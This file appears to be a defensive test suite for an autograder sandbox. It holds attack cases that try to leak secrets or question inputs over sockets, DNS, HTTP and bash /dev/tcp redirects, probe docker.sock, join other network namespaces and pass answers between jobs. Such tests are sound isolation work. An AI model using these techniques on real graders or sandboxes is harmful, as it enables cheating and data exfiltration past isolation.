"""Attacks over the network that try to send inputs out or to let two jobs communicate.

The tests listen on TCP port 48123, on UDP port 48124, on the abstract unix socket
"backprop-attack" and on /tmp/backprop-attack.sock. Data that arrive there have left the sandbox.
No attack tries to reach another machine.
"""

from textwrap import dedent

from .attack import Attack

RELU = "def relu_forward(x):\n    return np.maximum(np.asarray(x, dtype=float), 0), None"

TRY = dedent("""\
    import ctypes, os, socket, struct

    SECRET = b"backprop-attack"
    ADDRESSES = ["127.0.0.1", "127.1.2.3", "0.0.0.0"]

    def attempt(action, *arguments):
        try:
            print(action.__name__, arguments, action(*arguments))
        except Exception as error:
            print(action.__name__, arguments, error)

    def tell(family, address, kind=socket.SOCK_STREAM):
        with socket.socket(family, kind) as channel:
            channel.settimeout(0.1)
            channel.connect(address)
            channel.sendall(SECRET)
    """)

OWN_NETWORK = dedent("""\
    def own_network():
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.unshare(0x10000000 | 0x40000000):  # user and network namespace
            raise OSError(ctypes.get_errno(), "unshare")

    def set_up(name):
        import fcntl
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
            request = struct.pack("16sh14x", name, 1 | 64)  # up and running
            fcntl.ioctl(control, 0x8914, request)  # SIOCSIFFLAGS
    """)


def in_a_cell(name: str, code: str, helpers: str = TRY) -> Attack:
    """Return an attack by a cell in a notebook with one right answer, which is worth 2 points."""
    answers = {"relu_forward": RELU}
    return Attack(name, cells=(helpers + dedent(code),), answers=answers, deserves=2)


def in_an_answer(name: str, code: str) -> Attack:
    """Return an attack by a wrong answer, which can use the inputs of its question."""
    lines = [f"    {line}\n" for line in dedent(code).splitlines()]
    body = "def linear_forward(x, W, b):\n" + "".join(lines) + "    return x * 0, None"
    return Attack(name, cells=(TRY,), answers={"linear_forward": body})


ATTACKS = [
    in_a_cell(
        "no_tcp_connection_leaves_the_sandbox",
        "for address in ADDRESSES:\n    attempt(tell, socket.AF_INET, (address, 48123))",
    ),
    in_a_cell(
        "no_udp_packet_leaves_the_sandbox",
        "for address in [*ADDRESSES, '255.255.255.255']:\n"
        "    attempt(tell, socket.AF_INET, (address, 48124), socket.SOCK_DGRAM)",
    ),
    in_a_cell(
        "no_connection_of_ip_version_6_leaves_the_sandbox",
        "for address in ('::1', '::', 'ff02::1', 'fe80::1', '::ffff:127.0.0.1'):\n"
        "    attempt(tell, socket.AF_INET6, (address, 48123))\n"
        "    attempt(tell, socket.AF_INET6, (address, 48124), socket.SOCK_DGRAM)",
    ),
    in_an_answer(
        "the_inputs_of_a_question_are_not_sent_out",
        """\
        for kind, port in ((socket.SOCK_STREAM, 48123), (socket.SOCK_DGRAM, 48124)):
            for address in ADDRESSES:
                try:
                    with socket.socket(socket.AF_INET, kind) as channel:
                        channel.settimeout(0.1)
                        channel.connect((address, port))
                        channel.send(x.tobytes()[:1000])
                except OSError:
                    pass
        """,
    ),
    in_a_cell(
        "no_name_is_looked_up",
        """\
        attempt(socket.gethostbyname, "backprop-attack.example.org")
        attempt(socket.getaddrinfo, "localhost", 48123)
        # The question contains the secret as a name, so a name server would receive it.
        question = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6)
        question += b"\\x0fbackprop-attack\\x00\\x00\\x01\\x00\\x01"
        for address in [*ADDRESSES, "127.0.0.53"]:
            for port in (53, 48124):
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
                    attempt(channel.sendto, question, (address, port))
        """,
    ),
    in_a_cell(
        "no_page_is_fetched",
        """\
        import urllib.request
        for address in ADDRESSES:
            attempt(urllib.request.urlopen, f"http://{address}:48123/backprop-attack", None, 0.1)
        """,
    ),
    in_a_cell(
        "a_program_of_the_system_has_no_network_either",
        """\
        import subprocess
        command = "echo backprop-attack > /dev/tcp/127.0.0.1/48123"
        attempt(subprocess.run, ["/bin/bash", "-c", command])
        command = "echo backprop-attack > /dev/udp/127.0.0.1/48124"
        attempt(subprocess.run, ["/bin/bash", "-c", command])
        """,
    ),
    in_a_cell(
        "no_abstract_unix_socket_is_in_reach",
        "attempt(tell, socket.AF_UNIX, '\\0backprop-attack')\n"
        "attempt(tell, socket.AF_UNIX, b'\\0backprop-attack', socket.SOCK_DGRAM)",
    ),
    in_a_cell(
        "no_unix_socket_of_the_file_system_is_in_reach",
        """\
        places = ("/tmp/backprop-attack.sock", "/run/docker.sock", "/var/run/docker.sock",
                  "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/notify")
        for place in places:
            attempt(tell, socket.AF_UNIX, place)
        """,
    ),
    in_a_cell(
        "two_jobs_do_not_meet_at_an_abstract_socket",
        # If jobs shared the network, the next job would reach the process that this one leaves.
        """\
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as channel:
            attempt(channel.connect, "\\0backprop-meeting")
        if os.fork() == 0:
            os.setsid()
            ctypes.CDLL(None).prctl(15, SECRET, 0, 0, 0)
            meeting = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            meeting.bind("\\0backprop-meeting")
            meeting.listen()
            while True:
                meeting.accept()[0].send(b"the answers of the job before")
        """,
    ),
    in_a_cell(
        "no_raw_packet_is_sent",
        """\
        packet = bytes(12) + b"\\x08\\x00" + SECRET
        for family, kind, protocol in (
            (socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
            (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
            (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
        ):
            try:
                channel = socket.socket(family, kind, protocol)
                where = ("lo", 0) if family == socket.AF_PACKET else ("127.0.0.1", 0)
                print(channel.sendto(packet, where))
            except OSError as error:
                print(error)
        """,
    ),
    in_a_cell(
        "no_route_is_added_by_netlink",
        """\
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as channel:
            # RTM_NEWLINK for interface 1: up.
            link = struct.pack("BxHiII", 0, 0, 1, 1, 1)
            message = struct.pack("IHHII", 16 + len(link), 16, 5, 1, 0) + link
            attempt(channel.send, message)
            channel.settimeout(0.1)
            attempt(channel.recv, 4096)
        attempt(tell, socket.AF_INET, ("127.0.0.1", 48123))
        """,
    ),
    in_a_cell(
        "the_loopback_interface_is_not_brought_up",
        """\
        attempt(set_up, b"lo")
        attempt(tell, socket.AF_INET, ("127.0.0.1", 48123))
        """,
        TRY + OWN_NETWORK,
    ),
    in_a_cell(
        "a_loopback_interface_of_its_own_leads_nowhere",
        """\
        if os.fork() == 0:
            attempt(own_network)
            attempt(set_up, b"lo")
            attempt(tell, socket.AF_INET, ("127.0.0.1", 48123))
            attempt(tell, socket.AF_INET, ("127.0.0.1", 48124), socket.SOCK_DGRAM)
            os._exit(0)
        os.wait()
        """,
        TRY + OWN_NETWORK,
    ),
    in_a_cell(
        "the_network_of_another_process_is_not_joined",
        """\
        libc = ctypes.CDLL(None, use_errno=True)
        for process in range(1, 10):
            try:
                libc.setns(os.pidfd_open(process), 0x40000000)
            except OSError:
                pass
            for folder in ("/proc", "/newroot/proc", "/oldroot/proc"):
                try:
                    libc.setns(os.open(f"{folder}/{process}/ns/net", os.O_RDONLY), 0)
                except OSError:
                    pass
        attempt(tell, socket.AF_INET, ("127.0.0.1", 48123))
        """,
    ),
    in_a_cell(
        "a_hundred_networks_are_not_hoarded",
        """\
        for number in range(40):
            if os.fork() == 0:
                for more in range(3):
                    attempt(own_network)
                import time
                time.sleep(0.5)
                os._exit(0)
        """,
        TRY + OWN_NETWORK,
    ),
    in_a_cell(
        "no_socket_between_virtual_machines_is_in_reach",
        # The address 1 is this machine. Network namespaces do not separate these sockets.
        "attempt(tell, socket.AF_VSOCK, (1, 48123))",
    ),
    in_a_cell(
        "the_kernel_does_no_cryptography_for_a_job",
        # AF_ALG gives access to a large and rarely used part of the kernel. No job needs it.
        """\
        def digest():
            with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0) as channel:
                channel.bind(("hash", "sha256"))
                with channel.accept()[0] as operation:
                    operation.sendall(SECRET)
                    return operation.recv(32)
        attempt(digest)
        """,
    ),
    in_a_cell(
        "seldom_used_families_lead_nowhere",
        # These families are, for example, Bluetooth, CAN, TIPC, RDS, KCM and XDP. The two protocols
        # over IP are SCTP and MPTCP.
        """\
        for family in (3, 4, 5, 9, 21, 29, 30, 31, 40, 41, 43, 44):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW,
                         socket.SOCK_SEQPACKET):
                try:
                    socket.socket(family, kind)
                except OSError:
                    pass
        for protocol in (132, 262):
            try:
                channel = socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol)
                attempt(channel.connect, ("127.0.0.1", 48123))
            except OSError:
                pass
        """,
    ),
    in_a_cell(
        "an_inherited_socket_leads_nowhere_else",
        # connect() on sockets that are open already. AF_UNSPEC would separate a pair of sockets.
        """\
        libc = ctypes.CDLL(None)
        unspecified = struct.pack("H14x", 0)
        abstract = struct.pack("H", socket.AF_UNIX) + b"\\0backprop-attack"
        for number in range(3, 64):
            for address in (unspecified, abstract):
                libc.connect(number, address, len(address))
                libc.send(number, SECRET, len(SECRET), socket.MSG_DONTWAIT)
        """,
    ),
]
